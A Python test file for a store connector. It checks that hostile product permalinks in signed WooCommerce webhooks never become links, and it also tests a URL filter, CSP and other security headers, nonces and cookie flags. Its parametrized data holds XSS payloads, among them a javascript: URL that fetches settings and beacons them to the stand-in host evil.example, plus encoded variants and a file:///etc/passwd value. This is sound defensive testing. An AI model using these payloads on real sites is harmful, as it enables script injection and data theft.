"""Issue 15, "Output": what we write into pages cannot run script, whatever a store, shopper or
merchant sends us, and every response carries the headers that confine the page.

- A store's product ``permalink`` of ``javascript:...`` arrives in a real, signed WooCommerce
  payload and never becomes a link on the public landing page (dropped when stored; and a hostile
  URL already in the database is still not linked, because the page filters what it renders).
- `http_url` / the ``safe_url`` filter over a table of spellings browsers read as a script URL.
- Content-Security-Policy, nosniff and Referrer-Policy on each kind of response; a fresh nonce per
  request, on every inline script and style; no inline event handlers in any template.
- Session cookie flags follow the configuration; an oversized webhook gets a short JSON 413; an
  unknown SKU's availability claims nothing.
"""

from __future__ import annotations

import copy
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
from cryptography.fernet import Fernet
from flask import Flask

from adapters.woocommerce.verify import signature
from connector.config import load_config
from connector.domain.model import Platform
from connector.domain.safe_url import http_url
from connector.storage.tables import VariantRow
from connector.web import create_app
from connector.web.security_headers import APP_BRIDGE, page_policy, session_cookie_settings
from tests.integration.app.helpers import connect_shop, sign_in
from tests.integration.app.test_auth import _session_token
from tests.sandbox_helpers import Harness, connect_sandbox
from tests.woocommerce_support import fixture

ROOT = Path(__file__).resolve().parents[2]
WOO_SHOP = "shop.example.com"
WOO_SECRET = b"secret-" + WOO_SHOP.encode()  # as `connect_shop` stores it
SANDBOX = "/storefront/sandbox/shop-one.sandbox"
NONCE = re.compile(r"'nonce-([A-Za-z0-9_-]+)'")


@pytest.fixture
def app(config, services) -> Flask:  # type: ignore[no-untyped-def]
    return create_app(config, services, background=False)


@pytest.fixture
def sandbox(app, services, clock) -> Harness:  # type: ignore[no-untyped-def]
    return connect_sandbox(services, app.test_client(), clock)


def csp(response) -> dict[str, str]:  # type: ignore[no-untyped-def]
    header = response.headers["Content-Security-Policy"]
    return {d.split(" ", 1)[0]: d.split(" ", 1)[1] for d in (p.strip() for p in header.split(";")) if " " in d}


# ---- the stored XSS of the issue, through a real store payload ------------------------------


HOSTILE_PERMALINKS = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('/app/settings').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))",
    " \x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/product",
]


def woo_product_delivery(permalink: str, delivery: str) -> tuple[bytes, dict[str, str]]:
    """WooCommerce's published product payload, out of stock and sold on backorder (so the landing
    page lists it), with the store's `permalink` replaced; signed as the store signs deliveries."""
    product = copy.deepcopy(fixture("rest_v3_product_retrieve.json")) | {
        "sku": "LAMP", "name": "Brass lamp", "price": "80.00", "manage_stock": True, "stock_quantity": 0,
        "backorders": "yes", "stock_status": "onbackorder", "permalink": permalink,
    }
    body = json.dumps(product).encode()
    return body, {
        "Content-Type": "application/json",
        "X-WC-Webhook-Source": f"https://{WOO_SHOP}/",
        "X-WC-Webhook-Topic": "product.updated",
        "X-WC-Webhook-Resource": "product",
        "X-WC-Webhook-Event": "updated",
        "X-WC-Webhook-Signature": signature(WOO_SECRET, body),
        "X-WC-Webhook-ID": "7",
        "X-WC-Webhook-Delivery-ID": delivery,
    }


@pytest.mark.parametrize("permalink", HOSTILE_PERMALINKS)
def test_a_store_permalink_that_is_not_http_never_becomes_a_link(app, services, permalink: str) -> None:  # type: ignore[no-untyped-def]
    shop_id = connect_shop(services, WOO_SHOP, platform=Platform.WOOCOMMERCE, name="Woo")
    client = app.test_client()
    body, headers = woo_product_delivery(permalink, "d-hostile")
    answer = client.post("/webhooks/woocommerce", data=body, headers=headers)
    assert answer.status_code == 200, answer.get_data(as_text=True)
    for _ in range(20):
        if services.work_once() == (0, 0):
            break
    with services.db.session() as s:
        row = s.query(VariantRow).filter_by(shop_id=shop_id, sku="LAMP").one()
        assert row.title == "Brass lamp"  # the product itself was taken in: only its link was refused
        assert row.product_url is None

    landing = client.get(f"/storefront/woocommerce/{WOO_SHOP}/")
    html = landing.get_data(as_text=True)
    assert landing.status_code == 200 and "Brass lamp" in html
    item = html.split('data-sku="LAMP"')[1].split("</article>")[0]
    assert "<a " not in item and "script" not in item.lower() and "evil" not in item
    assert client.get(f"/storefront/woocommerce/{WOO_SHOP}/availability/LAMP").get_json()["product_url"] is None


def test_a_good_permalink_is_still_linked(app, services) -> None:  # type: ignore[no-untyped-def]
    connect_shop(services, WOO_SHOP, platform=Platform.WOOCOMMERCE, name="Woo")
    client = app.test_client()
    body, headers = woo_product_delivery("https://shop.example.com/product/brass-lamp/", "d-good")
    assert client.post("/webhooks/woocommerce", data=body, headers=headers).status_code == 200
    for _ in range(20):
        if services.work_once() == (0, 0):
            break
    html = client.get(f"/storefront/woocommerce/{WOO_SHOP}/").get_data(as_text=True)
    assert '<a class="view" href="https://shop.example.com/product/brass-lamp/">' in html


@pytest.mark.parametrize("stored", HOSTILE_PERMALINKS)
def test_a_hostile_url_already_stored_is_not_linked_either(app, services, stored: str) -> None:  # type: ignore[no-untyped-def]
    """Rows written before ingestion checked URLs: the page's `safe_url` filter refuses them itself."""
    shop_id = connect_shop(services, WOO_SHOP, platform=Platform.WOOCOMMERCE, name="Woo")
    with services.db.session() as s:
        s.add(VariantRow(shop_id=shop_id, sku="OLD", title="Old lamp", price=Decimal(9), lead_time_days=40,
                         product_url=stored, sells_when_out_of_stock=True))
    client = app.test_client()
    html = client.get(f"/storefront/woocommerce/{WOO_SHOP}/").get_data(as_text=True)
    item = html.split('data-sku="OLD"')[1].split("</article>")[0]
    assert "Old lamp" in item and "href" not in item
    assert client.get(f"/storefront/woocommerce/{WOO_SHOP}/availability/OLD").get_json()["product_url"] is None


# ---- the URL check, spelling by spelling ------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("https://shop.example.com/p/lamp?variant=1", "https://shop.example.com/p/lamp?variant=1"),
        ("HTTP://SHOP.EXAMPLE.COM/", "HTTP://SHOP.EXAMPLE.COM/"),
        ("  https://shop.example.com/x \n", "https://shop.example.com/x"),
        ("/storefront/sandbox/demo/x", "/storefront/sandbox/demo/x"),
        ("https://shop.example.com/a?b=1&amp;c=2", "https://shop.example.com/a?b=1&amp;c=2"),
        ("javascript:alert(1)", None),
        ("JaVaScRiPt:alert(1)", None),
        ("   javascript:alert(1)", None),
        ("\x00javascript:alert(1)", None),
        ("\x1fjavascript:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("java\nscript:alert(1)", None),
        ("java\rscript:alert(1)", None),
        ("jav&#x09;ascript:alert(1)", None),
        ("&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", None),
        ("javascript&colon;alert(1)", None),
        ("javascript&#58;alert(1)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("DATA:image/svg+xml,<svg onload=alert(1)>", None),
        ("vbscript:msgbox(1)", None),
        ("file:///etc/passwd", None),
        ("ftp://shop.example.com/", None),
        ("//evil.example/x", None),  # protocol-relative: another host; stores send absolute links
        ("/\\evil.example/x", None),  # browsers read the backslash as a slash
        ("\\\\evil.example/x", None),
        ("https://shop.example.com@evil.example/", None),  # user info: a lookalike of the shop
        ("https:///nohost", None),
        ("https://[::1", None),
        ("https://shop.example.com/\x00", "https://shop.example.com/"),  # stripped, as browsers strip it
        ("https://shop.example.com/a\x00b", None),
        ("product/lamp", None),  # a relative path means nothing on our pages
        ("", None),
        (None, None),
        (42, None),
    ],
)
def test_only_http_urls_or_paths_here_pass(value: object, expected: str | None) -> None:
    assert http_url(value) == expected


def test_the_template_filter_gives_an_empty_string_for_what_it_refuses(app) -> None:  # type: ignore[no-untyped-def]
    with app.test_request_context("/"):
        render = app.jinja_env.from_string("[{{ u|safe_url }}]").render
        assert render(u="javascript:alert(1)") == "[]"
        assert render(u="https://shop.example.com/?a=1&b=2") == "[https://shop.example.com/?a=1&amp;b=2]"


# ---- headers on every kind of response ------------------------------------------------------


def assert_common(response) -> dict[str, str]:  # type: ignore[no-untyped-def]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    policy = csp(response)
    assert policy["base-uri"] == "'none'"
    return policy


def assert_page_policy(response, frame_ancestors: str = "'none'") -> dict[str, str]:  # type: ignore[no-untyped-def]
    policy = assert_common(response)
    nonce = NONCE.search(policy["script-src"]).group(1)
    assert policy["script-src"].split() in (["'self'", f"'nonce-{nonce}'"], ["'self'", f"'nonce-{nonce}'", APP_BRIDGE])
    assert policy["style-src"] == f"'self' 'nonce-{nonce}'"
    assert policy["object-src"] == "'none'"
    assert policy["default-src"] == "'self'"
    assert policy["frame-ancestors"] == frame_ancestors
    assert "unsafe-inline" not in policy["script-src"] and "unsafe-eval" not in response.headers[
        "Content-Security-Policy"]
    return policy


def test_headers_on_each_kind_of_response(app, sandbox, services, config) -> None:  # type: ignore[no-untyped-def]
    sandbox.store.add_product("TEE", "Organic tee", "25.00", 0, lead_time_days=30)
    sandbox.settle()
    client = sandbox.client

    landing = client.get(f"{SANDBOX}/")  # a public page
    assert landing.status_code == 200
    assert_page_policy(landing)
    assert landing.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"

    data = client.get(f"{SANDBOX}/availability/TEE")  # public JSON: still readable from any origin
    assert data.status_code == 200 and data.headers["Access-Control-Allow-Origin"] == "*"
    assert csp(data) == {"default-src": "'none'", "base-uri": "'none'", "form-action": "'none'",
                         "frame-ancestors": "'none'"}
    assert_common(data)

    refused = client.post("/webhooks/sandbox", data=b"{}", headers={"Content-Type": "application/json"})
    assert refused.status_code == 401 and refused.is_json
    assert csp(refused)["default-src"] == "'none'"
    assert_common(refused)

    missing = client.get("/no/such/page")
    assert missing.status_code == 404
    assert_page_policy(missing)

    asks = client.get("/app/sign-in")  # the app, signed out
    assert asks.status_code == 401
    assert_page_policy(asks)

    sign_in(client, services, services.shops.ref("sandbox", sandbox.store.domain).id)
    page = client.get("/app")  # the app of a sandbox (not embedded) shop: framed by nobody
    assert page.status_code == 200
    policy = assert_page_policy(page)
    assert APP_BRIDGE not in policy["script-src"] and "app-bridge" not in page.get_data(as_text=True)
    assert policy["form-action"] == "'self'"
    assert page.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"

    connect = client.get("/woocommerce/connect")  # its answer redirects to the store's approval page
    assert assert_page_policy(connect)["form-action"] == "'self' https:"

    static = client.get("/static/backorder-widget.js")  # shops load it cross-site: no CORP header
    assert static.status_code == 200 and "Cross-Origin-Resource-Policy" not in static.headers
    assert_common(static)


def test_the_embedded_shopify_app_is_framed_by_its_admin_only_and_loads_app_bridge(app, services, config) -> None:  # type: ignore[no-untyped-def]
    shop = "cool-shop.myshopify.com"
    connect_shop(services, shop, platform=Platform.SHOPIFY, name="Cool Shop")
    client = app.test_client()
    page = client.get(f"/app?shop={shop}&id_token={_session_token(config, shop)}")
    assert page.status_code == 200
    policy = assert_page_policy(page, f"https://{shop} https://admin.shopify.com")
    assert APP_BRIDGE in policy["script-src"].split()
    assert f'<script src="{APP_BRIDGE}"></script>' in page.get_data(as_text=True)
    assert page.headers["Referrer-Policy"] == "no-referrer"  # the address carries the session token
    later = client.get("/app/settings")
    assert_page_policy(later, f"https://{shop} https://admin.shopify.com")
    assert later.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"

    # install and launch open in the admin's frame before anyone is signed in: the shop it names, only
    install = client.get("/shopify/install?shop=other-shop.myshopify.com")
    assert csp(install)["frame-ancestors"] == "https://other-shop.myshopify.com https://admin.shopify.com"
    for bad in ("evil.example", "evil.example%20https://attacker.example", "x.myshopify.com.evil.example"):
        assert csp(client.get(f"/shopify/install?shop={bad}"))["frame-ancestors"] == "'none'"


def test_pages_reached_by_a_secret_link_send_no_referrer(app, services) -> None:  # type: ignore[no-untyped-def]
    client = app.test_client()
    for path in ("/offers/not-a-real-token", "/app/sign-in/not-a-real-token", "/woocommerce/return?user_id=x"):
        response = client.get(path)
        assert response.status_code in (400, 403, 404)
        assert response.headers["Referrer-Policy"] == "no-referrer"
        assert_common(response)


def test_the_email_preview_alone_allows_the_emails_own_styles_and_https_images() -> None:
    """The preview's sandboxed srcdoc frame inherits the page's policy; the email's inline styles and
    https logo are allowed there, scripts stay as strict as anywhere (and the sandbox runs none)."""
    preview = page_policy("n", "'none'", email_preview=True)
    assert "style-src-attr 'unsafe-inline'" in preview and "img-src 'self' data: https:" in preview
    assert "script-src 'self' 'nonce-n'" in preview
    assert "unsafe-inline" not in page_policy("n", "'none'") and "https:" not in page_policy("n", "'none'")


# ---- nonces ----------------------------------------------------------------------------------


def inline_tags(html: str) -> list[str]:
    """Every inline ``<script>`` (no src) and ``<style>`` opening tag."""
    return [t for t in re.findall(r"<(?:script|style)\b[^>]*>", html) if "src=" not in t]


def test_a_fresh_nonce_per_request_on_every_inline_script_and_style(app, sandbox, services) -> None:  # type: ignore[no-untyped-def]
    client = sandbox.client
    sign_in(client, services, services.shops.ref("sandbox", sandbox.store.domain).id)
    seen = set()
    for path in ("/app/purchase-orders/new", "/app/purchase-orders/new", "/woocommerce/connect"):
        response = client.get(path)
        assert response.status_code == 200, path
        nonce = NONCE.search(csp(response)["script-src"]).group(1)
        assert len(nonce) >= 22  # at least 128 bits
        tags = inline_tags(response.get_data(as_text=True))
        assert tags, f"{path} has an inline script or style to check"
        for tag in tags:
            assert f'nonce="{nonce}"' in tag, (path, tag)
        seen.add(nonce)
    assert len(seen) == 3  # never reused across requests


def test_no_template_has_an_inline_handler_or_an_unnonced_inline_script_or_style() -> None:
    """Emails are not pages of ours (mail clients run no script; the preview shows them in a
    sandboxed frame), so templates/email is left out."""
    offenders = []
    for path in sorted((ROOT / "templates").rglob("*.html")):
        if "email" in path.relative_to(ROOT / "templates").parts[:1]:
            continue
        text = path.read_text(encoding="utf-8")
        offenders += [f"{path.name}: {m}" for m in re.findall(r"\son[a-z]+\s*=", text)]
        offenders += [f"{path.name}: {t}" for t in inline_tags(text) if 'nonce="{{ csp_nonce() }}"' not in t]
        offenders += [f"{path.name}: {m}" for m in re.findall(r"javascript:", text, flags=re.I)]
    assert offenders == []


# ---- session cookie --------------------------------------------------------------------------


def _config(tmp_path: Path, app_url: str, **env: str):  # type: ignore[no-untyped-def]
    return load_config({"SECRET_KEY": "k", "ENCRYPTION_KEY": Fernet.generate_key().decode(),
                        "INSTANCE_PATH": str(tmp_path / "i"), "DATABASE_URL": f"sqlite:///{tmp_path / 'db'}",
                        "APP_URL": app_url, "WORKER_ENABLED": "0", "SCHEDULER_ENABLED": "0", **env})


def test_session_cookie_flags_follow_the_configuration(tmp_path: Path) -> None:
    embedded = session_cookie_settings(_config(tmp_path, "https://c.example", SHOPIFY_API_KEY="key"))
    assert embedded == {"SESSION_COOKIE_HTTPONLY": True, "SESSION_COOKIE_SECURE": True,
                        "SESSION_COOKIE_SAMESITE": "None"}
    top_level = session_cookie_settings(_config(tmp_path, "https://c.example"))
    assert top_level["SESSION_COOKIE_SECURE"] and top_level["SESSION_COOKIE_SAMESITE"] == "Lax"
    dev = session_cookie_settings(_config(tmp_path, "http://127.0.0.1:8000", SHOPIFY_API_KEY="key"))
    assert dev == {"SESSION_COOKIE_HTTPONLY": True, "SESSION_COOKIE_SECURE": False, "SESSION_COOKIE_SAMESITE": "Lax"}


def test_the_sign_in_sets_the_cookie_with_those_flags(app, services) -> None:  # type: ignore[no-untyped-def]
    shop_id = connect_shop(services, "north.sandbox", name="North")
    client = app.test_client()
    from connector.web.auth import make_sign_in_token

    token = make_sign_in_token(services.config.secret_key, shop_id, "sandbox", "north.sandbox")
    response = client.get(f"/app/sign-in/{token}")
    cookie = response.headers["Set-Cookie"]
    assert response.status_code == 302
    for flag in ("Secure", "HttpOnly", "SameSite=None"):  # the test config: https and Shopify configured
        assert flag in cookie, cookie


# ---- smaller findings ------------------------------------------------------------------------


def test_an_oversized_webhook_gets_a_short_json_413(app) -> None:  # type: ignore[no-untyped-def]
    client = app.test_client()
    body = b"{" + b" " * app.config["MAX_CONTENT_LENGTH"] + b"}"
    response = client.post("/webhooks/woocommerce", data=body, headers={"Content-Type": "application/json"})
    assert response.status_code == 413
    assert response.is_json and response.get_json() == {"error": "request body too large"}
    assert len(response.data) < 100 and b"<html" not in response.data.lower()
    assert_common(response)
    json_post = client.post("/woocommerce/callback", data=body, headers={"Content-Type": "application/json"})
    assert json_post.status_code == 413 and json_post.is_json


def test_an_unknown_sku_claims_nothing_and_an_untracked_one_still_ships(sandbox, services) -> None:  # type: ignore[no-untyped-def]
    shop_id = services.shops.ref("sandbox", sandbox.store.domain).id
    with services.db.session() as s:  # a product whose stock the store does not count
        s.add(VariantRow(shop_id=shop_id, sku="BOWL", title="Bowl", price=Decimal(12), sells_when_out_of_stock=True))
    unknown = sandbox.client.get(f"{SANDBOX}/availability/NO-SUCH-SKU").get_json()
    assert unknown["status"] == "unknown" and unknown["message"] is None
    assert unknown["in_stock"] is False and unknown["ships_by"] is None and unknown["title"] is None
    untracked = sandbox.client.get(f"{SANDBOX}/availability/BOWL").get_json()
    assert untracked["status"] == "untracked" and untracked["in_stock"] and untracked["message"] == "In stock"
